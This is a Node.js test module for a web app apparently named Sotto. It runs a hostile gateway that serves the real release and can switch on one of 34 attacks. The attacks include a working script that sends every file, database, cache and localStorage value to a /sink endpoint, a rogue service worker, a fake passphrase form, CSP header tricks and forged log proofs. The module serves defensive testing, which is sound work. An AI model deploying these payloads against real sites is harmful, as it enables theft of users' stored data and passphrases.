// The hostile gateway: serves a real release of the real page, and one attack at a time. Every request is kept; what the
// attacker's code sends home arrives at /sink. Frames go on to a real gateway, so that people can be made and unlocked.
// By hand: node tests/attacks/hostile.mjs --attack A02 --port 8600 (Enter switches the attack on and off).
import { createHash, randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import { connect } from 'node:net';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { makeLog, now, DAY_S } from './world.mjs';

const TYPES = {
  css: 'text/css', html: 'text/html', js: 'text/javascript', json: 'application/json', png: 'image/png', svg: 'image/svg+xml',
  txt: 'text/plain', wasm: 'application/wasm', webmanifest: 'application/manifest+json',
};
export const typeOf = (path) => TYPES[path === '/' ? 'html' : path.split('.').pop()] ?? 'text/plain';
const PLACE = '/.well-known/sotto/';

/** What an honest gateway sends with everything (web/README.md "What is served"). */
export function fixedHeaders(csp) {
  return {
    'content-security-policy': csp, 'integrity-policy': 'blocked-destinations=(script)', 'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin', 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer',
  };
}

async function listen(handler, port = 0) {
  const server = createServer(handler);
  await new Promise((done, fail) => {
    server.once('error', fail);
    server.listen(port, '127.0.0.1', done);
  });
  return server;
}

/** A WebSocket goes on to the real gateway, under the name that it has and with an origin that it accepts. */
function forward({ frames, name }, added, request, socket, head) {
  const up = connect(Number(new URL(frames).port), '127.0.0.1');
  const lines = [`${request.method} ${request.url} HTTP/1.1`];
  for (let i = 0; i < request.rawHeaders.length; i += 2) {
    const key = request.rawHeaders[i];
    const value = /^host$/i.test(key) ? new URL(name).host : /^origin$/i.test(key) ? 'null' : request.rawHeaders[i + 1];
    lines.push(`${key}: ${value}`);
  }
  up.write(`${lines.join('\r\n')}\r\n\r\n`);
  if (head.length > 0) up.write(head);
  if (added) {
    // The 101 answer gets a header of the attacker's.
    up.once('data', (first) => {
      const text = first.toString('latin1');
      const end = text.indexOf('\r\n');
      socket.write(Buffer.from(`${text.slice(0, end)}\r\n${added}${text.slice(end)}`, 'latin1'));
      up.pipe(socket);
    });
  } else {
    up.pipe(socket);
  }
  socket.pipe(up);
  for (const s of [socket, up]) {
    s.on('error', () => { socket.destroy(); up.destroy(); });
    s.on('close', () => { socket.destroy(); up.destroy(); });
  }
}

/**
 * The gateway's second origin, which all servers here share: frames are signed for the name of the gateway, so there is
 * one name. Whose page it is that connects is told by its origin.
 */
export async function startFront() {
  const pages = new Map();
  const server = await listen((_, response) => response.writeHead(404).end());
  const front = { pages, name: `http://localhost:${server.address().port}`, frames: '', close: () => { server.closeAllConnections(); server.close(); } };
  server.on('upgrade', (request, socket, head) => {
    const page = pages.get(request.headers.origin);
    if (page) page.socket(front, request, socket, head, false);
    else socket.destroy();
  });
  return front;
}

/**
 * `lies`: path to an answer { body, type, headers, status, bare }, or a function of the request that gives one, null for
 * none of its own, or 'drop'. `bare`: without the headers that an honest answer has.
 */
export class Hostile {
  constructor(world, front) {
    Object.assign(this, { world, front, log: makeLog(world.keys), lies: new Map(), seen: [], sinks: [], down: false, extra: {}, on101: '', held: new Map() });
    this.notes = new Map();
    this.published = [];
    this.release = null;
  }

  async start(port = 0) {
    const handler = (request, response) => void this.answer(request, response).catch(() => response.destroy());
    this.server = await listen(handler, port);
    this.second = await listen(handler);
    for (const s of [this.server, this.second]) {
      s.on('upgrade', (request, socket, head) => this.socket(this.front, request, socket, head, s === this.server));
    }
    this.origin = `http://localhost:${this.server.address().port}`;
    this.gw = `http://localhost:${this.second.address().port}`;
    this.front.pages.set(this.origin, this);
    return this;
  }

  socket(front, request, socket, head, app) {
    this.seen.push({ path: '101', url: request.url, dest: 'websocket', app });
    if (this.onSocket) this.onSocket(request, socket);
    else forward(front, this.on101, request, socket, head);
  }

  async close() {
    for (const s of [this.server, this.second]) {
      s.closeAllConnections();
      s.close();
    }
  }

  /** Signed, logged, witnessed: `age` seconds ago for the first time, `seen` seconds ago for the last. */
  publish(release, { age = 3 * DAY_S, seen = 60, note = this.world.sign(release.text), latest = true } = {}) {
    const index = this.log.append(note);
    const first = this.log.proof(index, { time: now() - age });
    const made = { release, note, index, first, recent: this.log.proof(index, { time: now() - seen }) };
    this.notes.set(release.seq, made);
    this.published.push(made);
    if (latest) this.offer(made);
    return made;
  }

  /** What `release/latest` and the files are from now on. */
  offer(made) {
    this.latest = made;
    this.release = made.release;
    this.notes.set(made.release.seq, made);
  }

  clear() {
    Object.assign(this, { lies: new Map(), extra: {}, down: false, on101: '', onSocket: null });
    for (const free of this.held.values()) free.open();
    this.held.clear();
    return this;
  }

  /** Requests for this path are answered only after `open()`. */
  hold(path) {
    let open;
    const gate = new Promise((done) => { open = done; });
    this.held.set(path, { gate, open });
    return open;
  }

  asked(path, from = 0) {
    return this.seen.slice(from).filter((s) => s.path === path).length;
  }

  async answer(request, response) {
    const { pathname: path } = new URL(request.url, 'http://localhost');
    const app = request.socket.localPort === this.server.address().port;
    this.seen.push({ path, url: request.url, method: request.method, app, dest: request.headers['sec-fetch-dest'] ?? '', script: request.headers['service-worker'] ?? '', cookie: request.headers.cookie ?? '' });
    if (path === '/sink') return this.sink(request, response);
    if (this.down) return request.socket.destroy();
    await this.held.get(path)?.gate;
    const lie = this.lies.get(path);
    const told = typeof lie === 'function' ? lie(request) : lie;
    if (told === 'drop') return request.socket.destroy();
    const found = told ?? this.honest(path);
    const own = found.bare ? {} : fixedHeaders(this.release?.csp ?? "default-src 'none'");
    const kept = path === '/sw.js' || /\.[0-9a-f]{12}\./.test(path) ? 'public, max-age=31536000, immutable, no-transform' : 'no-cache, no-transform';
    response.writeHead(found.status ?? 200, { ...own, 'content-type': found.type ?? typeOf(path), 'cache-control': kept, ...this.extra, ...found.headers });
    response.end(request.method === 'HEAD' ? undefined : found.body);
  }

  async sink(request, response) {
    const parts = [];
    for await (const part of request) parts.push(part);
    this.sinks.push({ url: request.url, body: Buffer.concat(parts) });
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  }

  honest(path) {
    const { release, latest } = this;
    if (path === '/config.json') return { body: JSON.stringify({ gateway: this.front.name }), type: 'application/json' };
    if (path.startsWith('/log/')) {
      const file = this.log.files().get(path.slice('/log/'.length));
      return file === undefined ? { status: 404, body: 'not here\n' } : { body: file, type: path.endsWith('checkpoint') ? 'text/plain; charset=utf-8' : 'application/octet-stream' };
    }
    if (!release) return { status: 404, body: 'nothing\n', type: 'text/plain' };
    if (path === `${PLACE}release/latest`) return { body: latest.note, type: 'text/plain' };
    const [, kind, seq] = /^\/\.well-known\/sotto\/(release|proof|first)\/(\d+)$/.exec(path) ?? [];
    const made = this.notes.get(Number(seq));
    const text = made && { release: made.note, proof: made.recent, first: made.first }[kind];
    if (text) return { body: text, type: 'text/plain' };
    if (path === '/sw.js') return { body: release.loader, type: 'text/javascript' };
    const body = release.files.get(path);
    return body === undefined ? { status: 404, body: 'not here\n', type: 'text/plain' } : { body, type: typeOf(path) };
  }

  /** All that reached the sink, for a search. */
  stolen() {
    return Buffer.concat(this.sinks.flatMap((s) => [Buffer.from(decodeURIComponent(s.url)), s.body]));
  }
}

/** The path of a file of the release by the start of its name. */
export function part(release, name, ext = '') {
  return [...release.files.keys()].find((p) => p.startsWith(`/${name}.`) && p.endsWith(ext));
}

// ---- what the attacker writes ----

/** Sends home all that this origin keeps: every file, database, cache and local value. Runs in pages and workers. */
export const STEAL = `
async function steal(from) {
  const send = (what, body) => fetch('/sink?' + new URLSearchParams({ from, what }), { method: 'POST', body });
  const jobs = [send('alive', from)];
  const folder = async (dir, name) => {
    for await (const [n, h] of dir.entries()) {
      if (h.kind === 'directory') await folder(h, name + '/' + n);
      else await h.getFile().then((f) => f.arrayBuffer()).then((b) => send('file ' + name + '/' + n, b)).catch(() => send('busy ' + n, ''));
    }
  };
  jobs.push(navigator.storage.getDirectory().then((d) => folder(d, '')).catch((e) => send('no-files', String(e))));
  jobs.push((async () => {
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise((done, fail) => { const r = indexedDB.open(name); r.onsuccess = () => done(r.result); r.onerror = fail; });
      for (const store of db.objectStoreNames) {
        const all = await new Promise((done) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => done(r.result); r.onerror = () => done([]); });
        await send('db ' + name + ' ' + store, new Blob(all.map((v) => (v instanceof Blob || v instanceof ArrayBuffer || ArrayBuffer.isView(v) ? v : JSON.stringify(v)))));
      }
    }
  })().catch(() => {}));
  jobs.push((async () => {
    for (const name of await caches.keys()) for (const q of await (await caches.open(name)).keys()) if (/note/.test(q.url)) await send('cache ' + q.url, await (await (await caches.open(name)).match(q)).text());
  })().catch(() => {}));
  if (self.localStorage) jobs.push(send('local', JSON.stringify({ ...localStorage })));
  await Promise.all(jobs);
  await send('done', '');
}
`;
export const mark = (how) => `globalThis.marker = ${JSON.stringify(how)}; if (globalThis.document) document.documentElement.dataset.marker = ${JSON.stringify(how)};\n`;
/** No policy at all, and nothing that would keep anything out. */
export const LOOSE = { bare: true, headers: { 'content-security-policy': "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:", 'cache-control': 'no-store', 'access-control-allow-origin': '*' } };
const html = (body, more = {}) => ({ ...LOOSE, type: 'text/html', body: `<!doctype html><html><head><title>hostile</title></head><body>${body}</body></html>`, ...more });
const script = (body, more = {}) => ({ ...LOOSE, type: 'text/javascript', body, ...more });
const run = (how) => `<script>${mark(how)}${STEAL}steal(${JSON.stringify(how)})</script>`;
const ROGUE = `${mark('rogue-worker')}${STEAL}
const home = steal('rogue-worker');
self.addEventListener('install', (e) => { self.skipWaiting(); e.waitUntil(home); });
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => e.respondWith(new Response('<script>${mark('rogue-page').trim()}</' + 'script><title>rogue</title>', { headers: { 'content-type': 'text/html' } })));
`;

const PASSPHRASE_FORM = `<base href="/sink"><style>body { background: url(/sink?css) }</style><meta http-equiv="refresh" content="3;url=/refreshed">
<h1>Sotto</h1><form action="/sink?form" method="post"><label>Passphrase <input name="passphrase" value=""></label><button id="unlock">Unlock</button></form>`;

// ---- a WebSocket server that speaks no protocol at all ----
function acceptSocket(request, socket) {
  const key = createHash('sha1').update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${key}\r\nSec-WebSocket-Protocol: sotto.2\r\n\r\n`);
}

function frame(payload, opcode = 2) {
  const n = payload.length;
  const head = n < 126 ? Buffer.from([0x80 | opcode, n]) : n < 65_536 ? Buffer.from([0x80 | opcode, 126, n >> 8, n & 255]) : Buffer.concat([Buffer.from([0x80 | opcode, 127, 0, 0, 0, 0]), Buffer.from([(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255])]);
  return Buffer.concat([head, payload]);
}

/** Scripts as texts, CBOR of every first byte, deep, huge and cut ones, and noise. */
function hostileFrames() {
  const scripts = ["<script>globalThis.marker='frame'</script>", "javascript:globalThis.marker='frame'", `{"__proto__":{"marker":"frame"}}`].map((t) => Buffer.from(t));
  const all = [...scripts.map((t) => frame(t)), ...scripts.map((t) => frame(t, 1))];
  for (let i = 0; i < 256; i += 3) all.push(frame(Buffer.concat([Buffer.from([i]), randomBytes(24)])));
  for (let kind = 0; kind < 32; kind++) all.push(frame(Buffer.concat([Buffer.from([kind, 0x85]), ...scripts])));
  all.push(frame(Buffer.alloc(5000, 0x81)), frame(Buffer.from('9bffffffffffffffff', 'hex')), frame(randomBytes(70_000)), frame(Buffer.alloc(0)));
  return all;
}

/** Each attack: what the gateway does from then on; the second argument is what a case of the tests chooses. */
export const attacks = {
  A01: (s) => s.lies.set('/', html(`<h1>hostile</h1>${run('inline')}<script src="/evil.js"></script>`)).set('/evil.js', script(mark('evil'))).set('/sw.js', script(ROGUE)),
  A02: (s) => s.lies.set('/', html(`<h1>hostile</h1>${run('index')}`)),
  A03: (s) => s.lies.set('/', { status: 302, body: '', headers: { location: `${s.gw}/sink?redirect` } }),
  A04: (s, { path = '/' } = {}) => s.lies.set(path, { body: Buffer.concat([s.release.files.get(path), Buffer.from('\n')]), type: typeOf(path) }),
  A05: (s) => s.lies.set('/attack', html(run('attack'))).set('/attack.js', script(mark('attack'))),
  A06: (s) => s.lies.set('/sw.js', (q) => (q.headers['sec-fetch-dest'] === 'serviceworker' || q.headers['service-worker'] ? script(ROGUE) : null)),
  A07: (s) => s.lies.set('/sw.js', script(ROGUE, { headers: { 'cache-control': 'public, max-age=31536000, immutable' } })),
  A08: (s) => s.lies.set('/sw.js', script(ROGUE)),
  A09: (s, { path = part(s.release, 'worker') } = {}) => s.lies.set(path, script(`${mark('worker')}${STEAL}steal('worker')`)),
  A10: (s, { path = part(s.release, 'worker') } = {}) =>
    s.lies.set(path, { type: 'text/javascript', body: Buffer.concat([Buffer.from("try { importScripts('/evil.js') } catch {} try { new Worker('/evil.js') } catch {} import('/evil.js').catch(() => 0);\n"), s.release.files.get(path)]) }).set('/evil.js', script(`${mark('import')}fetch('/sink?import')`)),
  A11: (s) => s.lies.set('/frame', html(run('frame'))),
  A12: (s) => s.lies.set('/', { ...html(PASSPHRASE_FORM), bare: true }).set('/refreshed', html('refreshed')),
  A13: (s) => s.lies.set(part(s.release, 'app', 'js'), script(mark('wrong bytes'))).set('/evil.js', script(mark('evil'))),
  A14: (s, { path = part(s.release, 'core', 'wasm') } = {}) => s.lies.set(path, { body: Buffer.concat([s.release.files.get(path).subarray(0, -1), Buffer.from([0x55])]), type: 'application/wasm' }),
  A15: (s) => {
    for (const path of s.release.files.keys()) s.lies.set(path, script(mark('hostile'), { type: typeOf(path) }));
  },
  A16: (s) => s.lies.set('/', (q) => ({ status: 302, body: '', headers: { location: `${s.gw}/caught?${new URLSearchParams({ was: q.url })}` } })).set('/caught', html(`<script>fetch('/sink?' + new URLSearchParams({ at: location.href }))</script>`)),
  A17: (s) => s.lies.set('/', html('<script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "planted" })</script>')).set('/sw.js', script(ROGUE)),
  A18: (s, { csp = s.release.csp } = {}) => {
    const second = "default-src * 'unsafe-inline'";
    const how = {
      two: [csp, second], comma: `${csp}, ${second}`, missing: [], none: csp.replace(/script-src [^;]*/, "script-src 'none' https:"), case: csp.replace('script-src', 'Script-Src'),
    };
    /** Named here: two, comma, missing, none, case. */
    s.csp = (kind) => { s.extra = { 'content-security-policy': how[kind] }; };
    s.csp('two');
  },
  A19: (s) => {
    s.extra = { link: '</evil.js>; rel=modulepreload', refresh: `1; url=${s.gw}/sink?refresh`, 'speculation-rules': '"/rules.json"' };
    s.lies.set('/rules.json', { body: '{"prefetch":[{"source":"list","urls":["/sink?speculated"]}]}', type: 'application/speculationrules+json' });
  },
  /** The first release again, with a proof of today. */
  A20: (s) => s.offer({ ...s.published[0], recent: s.log.proof(0) }),
  /** Release 2 is in the log, and a witness has seen it; the gateway goes on with release 1. */
  A21: (s, { key = s.world.keys.log } = {}) => {
    const whole = makeLog(s.world.keys, [...s.log.entries, Buffer.from(s.world.sign(s.world.two.text))]);
    s.world.witness.shown.set(s.origin, whole.checkpoint({ by: [0], key }));
  },
  A22: (s, { note = s.world.sign(s.world.two.text, [s.world.keys.release[0]]) } = {}) => s.offer(s.publish(s.world.two, { note, latest: false })),
  A23: (s, { made = s.publish(s.world.two, { latest: false }), recent = '', first = made.first } = {}) => s.offer({ ...made, recent, first }),
  /** Another history of the same size, which the log signed, too; one witness was deceived. */
  A24: (s) => {
    const { two, keys, sign } = s.world;
    const note = sign(two.text, [keys.release[1], keys.release[2]]);
    const other = makeLog(keys, [s.log.entries[0], Buffer.from(note)]);
    s.offer({ release: two, note, recent: other.proof(1, { by: [0] }), first: other.proof(1, { by: [0], time: now() - 3 * DAY_S }) });
    return other;
  },
  A25: (s, { where = '/config.json' } = {}) => s.lies.set(where, () => ({ ...s.honest(where), headers: { 'clear-site-data': '"storage"' } })),
  A26: (s) => attacks.A02(s),
  A27: (s, { how = 'down' } = {}) => {
    const answers = {
      500: { status: 500, body: run('error page'), type: 'text/html' }, empty: { body: '', type: 'text/html' }, long: { body: Buffer.alloc(1 << 20, 'x'), type: 'text/html' },
      redirect: { status: 302, body: '', headers: { location: s.gw } },
    };
    if (how === 'down') s.down = true;
    else if (how === 'late') s.hold('/');
    else s.lies.set('/', answers[how]);
  },
  A28: (s) => s.lies.set('/', html(`<script>navigator.serviceWorker.register('/narrow.js', { scope: '/narrow/' }).then(() => { document.title = 'planted' })</script>`)).set('/narrow.js', script("self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('fetch', () => {});", { headers: { 'service-worker-allowed': '/' } })),
  A29: (s, { body = JSON.stringify({ gateway: `javascript:globalThis.marker='config'` }) } = {}) => s.lies.set('/config.json', { body, type: 'application/json' }),
  A30: (s) => s.lies.set('/', (q) => (/victim=1/.test(q.headers.cookie ?? '') ? html(`<h1>hostile</h1>${run('targeted')}`) : null)),
  A31: (s) => {
    for (const path of s.release.files.keys()) {
      const body = s.release.files.get(path).toString('latin1');
      const rewritten = path === '/' ? body.replace('</body>', `<script>${mark('beacon')}fetch('/sink?beacon')</script></body>`) : /\.js$/.test(path) ? `${mark('beacon')}${body}` : /\.css$/.test(path) ? body.replaceAll('  ', ' ').concat(' ') : null;
      if (rewritten !== null) s.lies.set(path, { body: Buffer.from(rewritten, 'latin1'), type: typeOf(path) });
    }
  },
  A32: (s) => {
    const frames = hostileFrames();
    let sent = 0;
    s.onSocket = (request, socket) => {
      acceptSocket(request, socket);
      const more = (n) => {
        for (let i = 0; i < n && !socket.destroyed; i++) socket.write(frames[sent++ % frames.length]);
      };
      socket.on('error', () => undefined).on('data', () => more(12));
      more(4);
    };
    return { all: frames.length, sent: () => sent };
  },
  /** Two keys are stolen: all is in order with this release, but its age. */
  A33: (s, { release = s.world.two } = {}) => s.publish(release, { age: 60 }),
  /** The tiles tell of another last entry than the one that is served with a proof. */
  A34: (s) => {
    const other = makeLog(s.world.keys, [...s.log.entries.slice(0, -1), Buffer.from('something harmless\n')]);
    for (const [name, body] of other.files()) if (name !== 'checkpoint') s.lies.set(`/log/${name}`, { body, type: 'application/octet-stream' });
  },
};

// ---- by hand ----

async function byHand() {
  const text = { type: /** @type {const} */ ('string') };
  const { attack, port } = parseArgs({ options: { attack: text, port: { ...text, default: '8600' } } }).values;
  if (!Object.hasOwn(attacks, attack ?? '')) throw new Error(`usage: node tests/attacks/hostile.mjs --attack ${Object.keys(attacks).join('|')} [--port N]`);
  const { startByHand } = await import('./lib.mjs');
  const s = await startByHand(Number(port));
  let on = false;
  const turn = () => {
    on = !on;
    s.clear();
    s.world.witness.shown.clear();
    if (on) attacks[attack](s);
    else s.offer(s.published[0]);
    console.log(`${s.origin}: ${on ? attack : 'honest'}`);
  };
  console.log(`${s.origin}: honest (Enter: ${attack}, and back; Control-C ends). Trust: build/attacks/by-hand/trust`);
  process.stdin.on('data', turn);
  setInterval(() => {
    for (const k of s.sinks.splice(0)) console.log(`sink: ${k.url} ${k.body.length} bytes`);
  }, 500);
}

// Not awaited: lib.mjs waits for this module.
if (process.argv[1] === fileURLToPath(import.meta.url)) void byHand();
